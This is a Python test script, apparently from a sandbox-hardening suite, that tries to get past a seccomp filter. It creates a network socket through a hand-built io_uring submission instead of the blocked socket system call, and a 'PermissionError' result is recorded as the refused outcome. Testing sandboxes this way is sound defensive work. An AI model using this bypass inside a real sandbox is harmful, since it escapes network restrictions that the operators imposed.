# weakness: seccomp
# goal: let the kernel's ring make a socket, for which no system call is made
# reached: "AF_INET"
# refused: PermissionError
import ctypes
import mmap
import socket
import struct

from attack import syscall

ENTRIES, OP_SOCKET, GET_EVENTS = 4, 45, 1
parameters = ctypes.create_string_buffer(120)
ring = syscall("io_uring_setup", ENTRIES, parameters)
submission = struct.unpack_from("=10I", parameters, 40)
completion = struct.unpack_from("=10I", parameters, 80)
queue = mmap.mmap(ring, 4096, offset=0)
entries = mmap.mmap(ring, 4096, offset=0x1000_0000)
# opcode, flags, priority, file (the family), offset (the type), address, length (the protocol)
entries[:64] = struct.pack("=BBHiQQI36x", OP_SOCKET, 0, 0, socket.AF_INET, 1, 0, 0)
array, tail = submission[6], submission[1]
queue[array : array + 4] = struct.pack("=I", 0)
queue[tail : tail + 4] = struct.pack("=I", 1)
syscall("io_uring_enter", ring, 1, 1, GET_EVENTS, None, 0)
_, made, _ = struct.unpack_from("=QiI", queue, completion[5])
if made < 0:
    raise OSError(-made, "no socket")
result = socket.socket(fileno=made).family.name
